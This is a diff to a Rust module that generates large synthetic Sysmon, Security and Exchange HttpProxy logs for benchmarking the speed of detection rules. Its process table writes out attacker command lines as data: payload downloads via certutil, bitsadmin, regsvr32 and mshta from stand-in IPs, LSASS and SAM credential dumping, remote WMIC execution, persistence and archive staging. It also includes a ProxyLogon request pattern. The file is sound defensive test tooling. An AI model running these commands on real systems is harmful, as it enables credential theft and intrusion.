@@ -1,17 +1,199 @@
 //! Logs of any size, for measurements of speed and memory.
-use std::io::{self, Seek, Write};
+//!
+//! They are dense with what rules look for, and nothing in them repeats
+//! exactly: a matcher that is fast here is not fast because it skips.
+//!
+//! # Not here
+//! A story, and its truth: these logs answer no question.
 
-/// Writes.
+use crate::dice::Dice;
+use crate::evtx::{Event, EvtxFile};
+use crate::exchange::{ProxyRow, proxy_columns, proxy_header, proxy_line};
+use crate::host::{Build, HEALTH_MAILBOXES, Host, PEOPLE, later, march};
+use crate::windows::{self, Process, ProcessAudit};
+use model::Timestamp;
+use std::io::{self, BufWriter, Seek, SeekFrom, Write};
+
+const HOST: Host =
+    Host { name: "MXS01", address: "10.20.0.11", build: Build::E2016_CU18, in_own_folder: false };
+
+/// Writes an event log of at least `bytes` bytes, in whole chunks: Sysmon and
+/// Security records in turn, as a forwarded log holds them, 60 to 120 in a
+/// chunk. The same size and seed give the same bytes.
 ///
 /// # Errors
 /// When `out` cannot be written to.
-pub fn write_evtx<W: Write + Seek>(_out: W, _bytes: u64, _seed: u64) -> io::Result<()> {
-    Ok(())
+pub fn write_evtx<W: Write + Seek>(out: W, bytes: u64, seed: u64) -> io::Result<()> {
+    let mut dice = Dice::new(seed, "bulk-evtx");
+    let mut out = BufWriter::with_capacity(1 << 20, out);
+    // The header counts the chunks, so it comes last; its room comes first.
+    out.write_all(&[0; 4_096])?;
+    let mut file = EvtxFile::new(out, &HOST.full_name(), 1);
+    let mut time = march(1, 0, 0, 0);
+    let mut parent = some_process(&mut dice);
+    while file.size_bytes() < bytes {
+        time = later(time, dice.between(1, 400) as i64);
+        let process = some_process(&mut dice);
+        file.push(&some_event(time, &process, &parent, &mut dice))?;
+        if dice.chance(30) {
+            parent = process;
+        }
+    }
+    let (header, mut out) = file.finish()?;
+    out.seek(SeekFrom::Start(0))?;
+    out.write_all(&header)?;
+    out.flush()
 }
-/// Writes.
+
+/// Kinds in the shares of a busy Sysmon configuration beside process audit.
+fn some_event(time: Timestamp, process: &Process, parent: &Process, dice: &mut Dice) -> Event {
+    match dice.below(20) {
+        0..=3 => windows::sysmon_start(time, process, parent),
+        4..=8 => {
+            let target = format!("{}{}.{}", dice.pick(&FOLDERS), dice.letters(9), dice.pick(&ENDINGS));
+            windows::sysmon_file(time, process, &target)
+        }
+        9 | 10 => {
+            let port = [80, 443, 445, 389, 3_389, 8_080][dice.below(6) as usize];
+            windows::sysmon_connection(time, process, &HOST, &format!("203.0.113.{}", dice.below(255)), port)
+        }
+        11..=13 => {
+            let value = format!("{}{}", dice.pick(&REGISTRY_KEYS), dice.letters(8));
+            windows::sysmon_registry(time, process, &value, &process.command)
+        }
+        14 => windows::sysmon_access(time, process, parent),
+        15 | 16 => windows::security_start(time, process, parent, ProcessAudit::Whole),
+        17 | 18 => windows::security_logon(
+            time,
+            dice.pick(&PEOPLE),
+            3,
+            &format!("10.20.4.{}", dice.below(255)),
+            false,
+        ),
+        _ => windows::security_logon(
+            time,
+            dice.pick(&PEOPLE),
+            10,
+            &format!("198.51.100.{}", dice.below(255)),
+            true,
+        ),
+    }
+}
+
+/// A program with arguments of the kind that rules are written for.
+fn some_process(dice: &mut Dice) -> Process {
+    let (image, arguments) = PROGRAMS[dice.below(PROGRAMS.len() as u64) as usize];
+    let (word, number) = (dice.letters(10), dice.between(1, 255));
+    let command = format!("{image} {}", arguments.replace("{w}", &word).replace("{n}", &number.to_string()));
+    let user = dice.pick(&[
+        "NT AUTHORITY\\SYSTEM",
+        "EXAMPLE\\a.meyer",
+        "EXAMPLE\\svc_backup",
+        "IIS APPPOOL\\DefaultAppPool",
+    ]);
+    let id = 4 * dice.between(100, 15_000) as u32;
+    let hashes = format!("MD5={:016X}{:016X}", dice.next(), dice.next());
+    Process { id, image: image.into(), command, user, guid: dice.guid(), hashes }
+}
+
+const PROGRAMS: [(&str, &str); 16] = [
+    ("C:\\Windows\\System32\\cmd.exe", "/c whoami /all & ipconfig /all > C:\\Windows\\Temp\\{w}.txt"),
+    ("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "-nop -w hidden -enc {w}{w}{w}{w}"),
+    (
+        "C:\\Windows\\System32\\rundll32.exe",
+        "C:\\windows\\System32\\comsvcs.dll MiniDump {n} C:\\root\\{w}.dmp full",
+    ),
+    ("C:\\Windows\\System32\\net.exe", "group \"Domain Admins\" {w} /domain"),
+    (
+        "C:\\Windows\\System32\\certutil.exe",
+        "-urlcache -split -f http://198.51.100.{n}/{w}.txt C:\\ProgramData\\{w}.exe",
+    ),
+    ("C:\\Windows\\System32\\reg.exe", "save hklm\\sam C:\\Windows\\Temp\\{w}.hiv"),
+    ("C:\\Windows\\System32\\wbem\\WMIC.exe", "/node:10.20.0.{n} process call create \"cmd.exe /c {w}\""),
+    (
+        "C:\\Windows\\System32\\schtasks.exe",
+        "/create /tn {w} /tr C:\\Users\\Public\\{w}.exe /sc minute /mo {n}",
+    ),
+    ("C:\\Windows\\System32\\svchost.exe", "-k netsvcs -p -s {w}"),
+    (
+        "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Bin\\MSExchangeHMWorker.exe",
+        "-pipe:{n} -stopkey:Global\\{w}",
+    ),
+    (
+        "C:\\Windows\\System32\\inetsrv\\w3wp.exe",
+        "-ap \"MSExchangeOWAAppPool\" -v \"v4.0\" -a \\\\.\\pipe\\{w}",
+    ),
+    ("C:\\Windows\\System32\\regsvr32.exe", "/s /n /u /i:http://203.0.113.{n}/{w}.sct scrobj.dll"),
+    ("C:\\Windows\\System32\\mshta.exe", "http://203.0.113.{n}/{w}.hta"),
+    ("C:\\Windows\\System32\\bitsadmin.exe", "/transfer {w} http://198.51.100.{n}/{w} C:\\ProgramData\\{w}"),
+    (
+        "C:\\ProgramData\\mx\\7z.exe",
+        "a -p{w} C:\\inetpub\\wwwroot\\aspnet_client\\{w}.7z C:\\ProgramData\\mx",
+    ),
+    ("C:\\Windows\\explorer.exe", "/factory,{{w}} -Embedding {n}"),
+];
+const FOLDERS: [&str; 5] = [
+    "C:\\Windows\\Temp\\",
+    "C:\\inetpub\\wwwroot\\aspnet_client\\",
+    "C:\\Users\\a.meyer\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\",
+    "C:\\ProgramData\\",
+    "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Logging\\Monitoring\\",
+];
+const ENDINGS: [&str; 7] = ["log", "aspx", "dll", "exe", "ps1", "tmp", "dmp"];
+const REGISTRY_KEYS: [&str; 4] = [
+    "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\",
+    "HKLM\\System\\CurrentControlSet\\Services\\",
+    "HKU\\S-1-5-21-1004336348-1177238915-682003330-1107\\SOFTWARE\\Classes\\CLSID\\",
+    "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\",
+];
+
+/// Writes one HttpProxy log of `lines` rows: 86 of 100 health probes, the rest
+/// people, and in every thousand rows one that tries CVE-2021-26855. The same
+/// number and seed give the same bytes.
 ///
 /// # Errors
 /// When `out` cannot be written to.
-pub fn write_http_proxy<W: Write>(_out: W, _lines: u64, _seed: u64) -> io::Result<()> {
-    Ok(())
+pub fn write_http_proxy<W: Write>(mut out: W, lines: u64, seed: u64) -> io::Result<()> {
+    let mut dice = Dice::new(seed, "bulk-httpproxy");
+    let columns = proxy_columns(&HOST);
+    let mut time = march(1, 0, 0, 0);
+    out.write_all(proxy_header(&HOST, time).as_bytes())?;
+    for _ in 0..lines {
+        time = later(time, dice.between(1, 400) as i64);
+        out.write_all(proxy_line(&HOST, &columns, &some_request(time, &mut dice)).as_bytes())?;
+    }
+    out.flush()
+}
+
+fn some_request(time: Timestamp, dice: &mut Dice) -> ProxyRow {
+    let of_thousand = dice.below(1_000);
+    let is_attempt = of_thousand == 0;
+    let is_probe = of_thousand > 140;
+    let user = if is_probe { dice.pick(&HEALTH_MAILBOXES) } else { dice.pick(&PEOPLE) };
+    let anchor = if is_attempt {
+        format!("ServerInfo~{}]@{}:444/autodiscover/autodiscover.xml?#", dice.hex(6), HOST.full_name())
+    } else {
+        format!("Sid~S-1-5-21-1004336348-1177238915-682003330-{}", dice.between(1_100, 9_000))
+    };
+    ProxyRow {
+        time,
+        protocol: "Ecp",
+        request_id: dice.guid_text(),
+        url_host: if is_probe { "localhost".into() } else { "mail.example.com".into() },
+        url_stem: if is_attempt { format!("/ecp/{}.js", dice.hex(4)) } else { "/ecp/".into() },
+        url_query: if is_probe { String::new() } else { format!("?ActID={}", dice.guid_text()) },
+        method: if is_attempt { "POST" } else { "GET" },
+        user: (!is_attempt).then(|| ("Negotiate", format!("EXAMPLE\\{user}"))),
+        anchor_mailbox: anchor,
+        agent: if is_probe {
+            "AMProbe/Local/ClientAccess".into()
+        } else {
+            format!("Mozilla/5.0 (rv:{}.0)", dice.below(99))
+        },
+        client: if is_probe { "127.0.0.1".into() } else { format!("192.0.2.{}", dice.below(255)) },
+        status: if is_attempt { 400 } else { 200 },
+        back_end_status: (!is_attempt).then_some(200),
+        error: "",
+        millis_taken: dice.between(1, 900) as u32,
+    }
 }
